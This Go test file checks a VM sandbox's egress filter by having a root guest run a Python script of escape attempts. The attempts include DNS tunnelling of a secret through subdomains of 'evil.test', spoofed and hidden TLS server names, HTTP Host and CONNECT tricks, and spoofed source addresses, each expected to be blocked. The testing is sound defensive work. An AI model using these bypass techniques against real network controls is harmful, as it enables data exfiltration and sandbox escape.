//go:build vm

package machine

import (
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net"
	"slices"
	"strings"
	"testing"

	"github.com/pandastack/pandastack/internal/contract/hostapi"
)

// attempts is a program for guests. Each line of its table is a name, a way, a target, how many seconds to wait, and
// the data to send: bytes in hexadecimal, in pieces that are sent one after the other. It prints each name with the
// result: "here", "-" for nothing, and addresses or texts for questions to the guest's resolver. All attempts run
// concurrently, except datagrams, which are sent in order.
const attempts = `cat > /tmp/attempts.py <<'END'
import socket, struct, sys, threading
def tcp(target, patience, pieces, family=socket.AF_INET):
    host, port = target.rsplit(":", 1)
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(patience)
    s.connect((host, int(port)))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for p in pieces:
        s.sendall(p)
        threading.Event().wait(0.05)
    got = more = b"."
    while more and b"here" not in got:
        more = s.recv(4096)
        got += more
    return "here" if b"here" in got else "-"
def udp(target, patience, pieces, source=None):
    host, port = target.rsplit(":", 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if source:
        s.bind((source, 0))
    for p in pieces:
        s.sendto(p, (host, int(port)))
    return "-"
def dns(target, patience, pieces, over=socket.SOCK_DGRAM):
    name, kind = target.split("/")
    q = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", int(kind), 1)
    server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
    s = socket.socket(socket.AF_INET, over)
    s.settimeout(30)
    s.connect((server, 53))
    s.sendall(q if over == socket.SOCK_DGRAM else struct.pack(">H", len(q)) + q)
    a = s.recv(4096)
    a = a if over == socket.SOCK_DGRAM else a[2:]
    if struct.unpack(">H", a[6:8])[0] == 0:
        return "-"
    return "here" if int(kind) != 1 else socket.inet_ntoa(a[-4:])
ways = {
    "tcp": tcp, "udp": udp, "dns": dns,
    "tcp6": lambda t, w, p: tcp(t, w, p, socket.AF_INET6),
    "dnstcp": lambda t, w, p: dns(t, w, p, socket.SOCK_STREAM),
    "spoof": lambda t, w, p: udp(t, w, p, "198.100.1.77"),
}
def attempt(name, way, target, patience, sent):
    try:
        got = ways[way](target, float(patience), [bytes.fromhex(p) for p in sent.split("|")])
    except OSError:
        got = "-"
    print(name, got, flush=True)
all = []
for line in sys.stdin:
    row = line.split()
    if row[1] in ("udp", "spoof"):
        attempt(*row)
        continue
    all.append(threading.Thread(target=attempt, args=row))
for t in all:
    t.start()
for t in all:
    t.join()
END
python3 /tmp/attempts.py`

// row is one attempt of a guest and the expected result: "here", an address, or "-".
type row struct{ name, way, target, sent, want string }

// hello returns the first bytes of a TLS connection that names a server, or none.
func hello(t *testing.T, server string) []byte {
	t.Helper()
	ours, theirs := net.Pipe()
	defer theirs.Close()
	go func() {
		defer ours.Close()
		_ = tls.Client(ours, &tls.Config{ServerName: server, InsecureSkipVerify: true}).Handshake() // no server
	}()
	b := make([]byte, 16<<10)
	n, err := theirs.Read(b)
	if err != nil || n < 100 {
		t.Fatalf("no hello: %d bytes, %v", n, err)
	}
	return b[:n]
}

// encrypted adds an encrypted ClientHello (extension 0xfe0d) to a hello: the outer name hides the inner one.
func encrypted(b []byte) []byte {
	body := append([]byte{0, 0, 1, 0, 1, 7, 0, 32}, make([]byte, 32)...)
	body = append(append(body, 0, 128), make([]byte, 128)...)
	more := binary.BigEndian.AppendUint16([]byte{0xfe, 0x0d}, uint16(len(body)))
	more = append(more, body...)
	out := append(slices.Clone(b), more...)
	const record, handshake = 5, 4
	binary.BigEndian.PutUint16(out[3:], uint16(len(out)-record))
	size := len(out) - record - handshake
	out[record+1], out[record+2], out[record+3] = byte(size>>16), byte(size>>8), byte(size)
	at := record + handshake + 2 + 32
	at += 1 + int(out[at])                                      // session id
	at += 2 + int(binary.BigEndian.Uint16(out[at:]))            // ciphers
	at += 1 + int(out[at])                                      // compressions
	binary.BigEndian.PutUint16(out[at:], uint16(len(out)-at-2)) // extensions
	return out
}

func pieces(list ...[]byte) string {
	var all []string
	for _, p := range list {
		all = append(all, hex.EncodeToString(p))
	}
	return strings.Join(all, "|")
}

func words(s string) string { return pieces([]byte(s)) }

// always returns attempts that fail under every policy: addresses that are not the public internet, mail, IPv6,
// foreign sources, the host under each of its addresses, and another guest.
func always(host, neighbour string) []row {
	rows := []row{
		{"gateway", "tcp", "192.168.241.1:7700", words("x"), "-"},
		{"proxy", "tcp", "192.168.241.1:15001", words("x"), "-"},
		{"host-end", "tcp", host + ":7700", words("x"), "-"},
		{"host-uplink", "tcp", "198.100.1.2:7700", words("x"), "-"},
		{"neighbour", "tcp", neighbour + ":8080", words("x"), "-"},
		{"mail", "tcp", sharedSite + ":25", words("x"), "-"},
		{"six", "tcp6", "2606:2800::1:443", words("x"), "-"},
		{"six-gateway", "tcp6", "fd00:1::1:7700", words("x"), "-"},
		{"spoofed", "spoof", sharedSite + ":123", words("spoofed"), "-"},
	}
	for _, a := range closedSites {
		rows = append(
			rows,
			row{"closed-" + a, "tcp", a + ":80", words("x"), "-"},
			row{"closed-udp-" + a, "udp", a + ":123", words("closed " + a), "-"},
		)
	}
	return rows
}

// TestAdversary lets a guest with root try to get out: under the policy that allows everything, under one whose
// entries name addresses that are never reachable, and under one that allows two names.
func TestAdversary(t *testing.T) {
	in := newInternet(t)
	l := host(t)
	a, b := l.create(t, hostapi.Create{ID: "adv1"}), l.create(t, hostapi.Create{ID: "adv2"})
	l.run(t, b.ID, serve)
	wait(t, "the other guest serves", func() bool {
		return l.run(t, b.ID, fmt.Sprintf(reach, "127.0.0.1:8080")) != ""
	})
	l.run(
		t,
		a.ID,
		"ip address add fd00:1::2/64 dev eth0; ip route add default via fd00:1::1; "+
			"ip address add 198.100.1.77/32 dev eth0; true",
	)
	ends := strings.Split(a.GuestIP, ".")
	var last int
	if _, err := fmt.Sscan(ends[3], &last); err != nil {
		t.Fatal(err)
	}
	never := always(fmt.Sprintf("%s.%d", strings.Join(ends[:3], "."), last-1), b.GuestIP)
	secret := strings.Repeat("c2VjcmV0", 7)
	good, evil := hello(t, "good.test"), hello(t, "evil.test")
	for _, phase := range []struct {
		name   string
		policy hostapi.Egress
		rows   []row
	}{
		{"open", hostapi.Egress{}, append([]row{
			{"public", "tcp", sharedSite + ":80", words("x"), "here"},
			{"any-name", "dns", "evil.test/1", "", sharedSite},
			{"inside-name", "dns", "inside.good.test/1", "", "-"}, // its address is closed, so it is withheld
		}, never...)},
		{"listed", hostapi.Egress{Allow: []string{
			"10.0.0.0/8", "192.168.0.0/16", "169.254.0.0/16", "172.16.0.0/12", "100.64.0.0/10", "198.18.0.0/15",
			"203.0.113.0/24", "198.100.1.2", "inside.good.test", sharedSite, b.GuestIP,
		}, DenyOthers: true}, append([]row{
			{"allowed", "tcp", sharedSite + ":80", words("x"), "here"},
			{"inside-name", "dns", "inside.good.test/1", "", "-"},
			{"not-listed", "tcp", otherSite + ":80", words("x"), "-"},
		}, never...)},
		{"names", hostapi.Egress{
			Allow: []string{"good.test", "*.wild.test", "inside.good.test"}, DenyOthers: true,
		}, append([]row{
			{"good", "dns", "good.test/1", "", sharedSite},
			{"good-by-tcp", "dnstcp", "good.test/1", "", sharedSite},
			{"evil", "dns", "evil.test/1", "", "-"},
			{"tunnel", "dns", secret + "." + secret + ".evil.test/1", "", "-"},
			{"tunnel-text", "dns", secret + ".evil.test/16", "", "-"},
			{"tunnel-by-tcp", "dnstcp", secret + ".evil.test/1", "", "-"},
			{"tunnel-null", "dns", secret + ".evil.test/10", "", "-"},
			{"text-of-good", "dns", "good.test/16", "", "here"}, // the name's owner is trusted
			{"inside-name", "dns", "inside.good.test/1", "", "-"},
			{"below-good", "dns", secret + ".good.test/1", "", "-"},
			{"disguise", "dns", "good.test.evil.test/1", "", "-"},
			{"foreign-resolver", "udp", otherSite + ":53", words("foreign resolver"), "-"},
			{"dns-over-https", "tcp", otherSite + ":443", pieces(hello(t, "dns.test")), "-"},
			{"raw-address", "tcp", otherSite + ":7777", words("x"), "-"},
			{"raw-datagram", "udp", otherSite + ":3478", words("raw datagram"), "-"},
		}, never...)},
		{"connections", hostapi.Egress{Allow: []string{"good.test", "*.wild.test"}, DenyOthers: true}, append([]row{
			{"tls", "tcp", sharedSite + ":443", pieces(good), "here"},
			{"tls-split", "tcp", sharedSite + ":443", pieces(good[:3], good[3:50], good[50:]), "here"},
			{"http", "tcp", sharedSite + ":80", words("GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"), "here"},
			// The address is of good.test, and the protocol has no names.
			{"other-port", "tcp", sharedSite + ":7777", words("\x00\x01\x02\x03\x04\x05\x06\x07"), "here"},
			{"spoofed-name", "tcp", sharedSite + ":443", pieces(evil), "-"},
			{"spoofed-name-split", "tcp", sharedSite + ":443", pieces(evil[:6], evil[6:]), "-"},
			{"spoofed-name-elsewhere", "tcp", sharedSite + ":8443", pieces(evil), "-"},
			{"no-name", "tcp", sharedSite + ":443", pieces(hello(t, "")), "-"},
			{"hidden-name", "tcp", sharedSite + ":443", pieces(encrypted(evil)), "-"},
			{"not-tls", "tcp", sharedSite + ":443", words("SSH-2.0-tunnel\r\n"), "-"},
			{"cut-hello", "tcp", sharedSite + ":443", pieces(append(slices.Clone(good[:60]), evil...)), "-"},
			{"other-address", "tcp", otherSite + ":443", pieces(good), "-"},
			{"http-host", "tcp", sharedSite + ":80", words("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), "-"},
			{"http-no-host", "tcp", sharedSite + ":80", words("GET / HTTP/1.0\r\n\r\n"), "-"},
			{"http-two-hosts", "tcp", sharedSite + ":80",
				words("GET / HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n"), "-"},
			{"http-connect", "tcp", sharedSite + ":80",
				words("CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"), "-"},
			{"resolver-of-good", "udp", sharedSite + ":53", words("resolver of good"), "-"},
			{"resolver-tcp", "tcp", sharedSite + ":53", words("x"), "-"},
			{"dns-over-tls", "tcp", sharedSite + ":853", pieces(good), "-"},
			{"dns-over-quic", "udp", sharedSite + ":853", words("dns over quic"), "-"},
			{"quic", "udp", sharedSite + ":443", words("quic"), "-"},
			{"last-datagram", "udp", sharedSite + ":123", words("last datagram"), "-"},
		}, never...)},
	} {
		if err := l.SetEgress(t.Context(), a.ID, phase.policy); err != nil {
			t.Fatal(err)
		}
		try(t, l, a.ID, phase.name, phase.rows)
	}
	wait(t, "the datagram to an allowed address arrives", func() bool {
		_, got := in.received()
		return slices.Contains(got, "last datagram")
	})
	asked, datagrams := in.received()
	if len(datagrams) != 1 {
		t.Errorf("datagrams that arrived = %q, want the last alone", datagrams)
	}
	for _, q := range asked {
		if !slices.Contains(
			[]string{"good.test. a", "good.test. txt", "evil.test. a", "inside.good.test. a"},
			strings.ToLower(q),
		) {
			t.Errorf("the resolver got a query for %s, want none", q)
		}
	}
}

// try lets a guest make all attempts of a phase and compares the results.
func try(t *testing.T, l *lab, id hostapi.MachineID, phase string, rows []row) {
	t.Helper()
	var table strings.Builder
	for _, r := range rows {
		sent := r.sent
		if sent == "" {
			sent = "00"
		}
		patience := 2 // seconds, for attempts that must fail
		if r.want != "-" {
			patience = 60
		}
		fmt.Fprintln(&table, r.name, r.way, r.target, patience, sent)
	}
	got := map[string]string{}
	for line := range strings.Lines(l.run(t, id, attempts+" <<'END'\n"+table.String()+"END")) {
		name, what, _ := strings.Cut(strings.TrimSpace(line), " ")
		got[name] = what
	}
	for _, r := range rows {
		if got[r.name] != r.want {
			t.Errorf("%s: %s: %s to %s = %q, want %q", phase, r.name, r.way, r.target, got[r.name], r.want)
		}
	}
}
